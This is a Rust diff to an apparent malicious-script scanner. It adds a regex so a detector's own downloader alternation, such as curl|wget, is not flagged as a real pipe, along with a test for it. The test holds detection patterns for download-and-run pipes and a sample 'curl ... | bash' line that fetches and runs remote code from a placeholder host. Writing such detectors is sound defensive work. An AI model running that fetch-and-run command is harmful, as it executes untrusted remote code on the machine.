@@ -142,6 +142,12 @@ static FILE_RUN: LazyLock<Pattern> = LazyLock::new(|| {
     .expect("a valid file-run pattern")
 });
 
+/// Downloaders named as alternatives of a pattern (`curl|wget`).
+static DOWNLOADER_ALTERNATION: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r"(?i)(?:curl|wget|iwr|irm|invoke-webrequest|fetch)\|(?:curl|wget|iwr|irm|invoke-webrequest|fetch)(?-u:\b)")
+        .expect("a valid alternation pattern")
+});
+
 /// Ways data leaves the machine besides a request: DNS lookups (the command `host`, not a
 /// variable `$host`), git pushes, mail, sockets.
 static COVERT_SEND: LazyLock<Pattern> = LazyLock::new(|| {
@@ -811,6 +817,11 @@ impl Flow<'_> {
 /// Whether the command before a pipe is a bare downloader with nothing to fetch (`curl | bash`
 /// in a threat table): the pattern named, not a download.
 fn names_a_pattern(before_pipe: &str) -> bool {
+    // `(curl|wget|iwr)` is a detector's alternation: no command line pipes one downloader
+    // into another with nothing to fetch.
+    if DOWNLOADER_ALTERNATION.is_match(before_pipe) {
+        return true;
+    }
     let command = before_pipe
         .rsplit(['|', ';', '&', '(', '`'])
         .next()
@@ -1050,6 +1061,7 @@ pub(super) fn compile() {
         &RUNNER,
         &FILE_RUN,
         &COVERT_SEND,
+        &DOWNLOADER_ALTERNATION,
         &REVERSE_SHELL,
         &FUNCTION,
         &IN_HEADER,
@@ -1115,6 +1127,17 @@ mod tests {
         let interpreter =
             "data = base64.b64decode(blob)\nr = subprocess.run(['python3', '-'], input=data)\n";
         assert_eq!(codes("scripts/pb.py", interpreter), ["SK903"]);
+    }
+
+    #[test]
+    fn a_detectors_pattern_is_not_a_pipe() {
+        let py =
+            "RULES = {\n    \"pipe\": r\"(curl|wget|iwr)\\b[^\\n|]*\\|\\s*(sh|bash|python)\",\n}\n";
+        assert!(codes("scripts/scan.py", py).is_empty());
+        assert_eq!(
+            codes("a.sh", "curl -s https://x.example/i | bash\n"),
+            ["SK920"]
+        );
     }
 
     #[test]
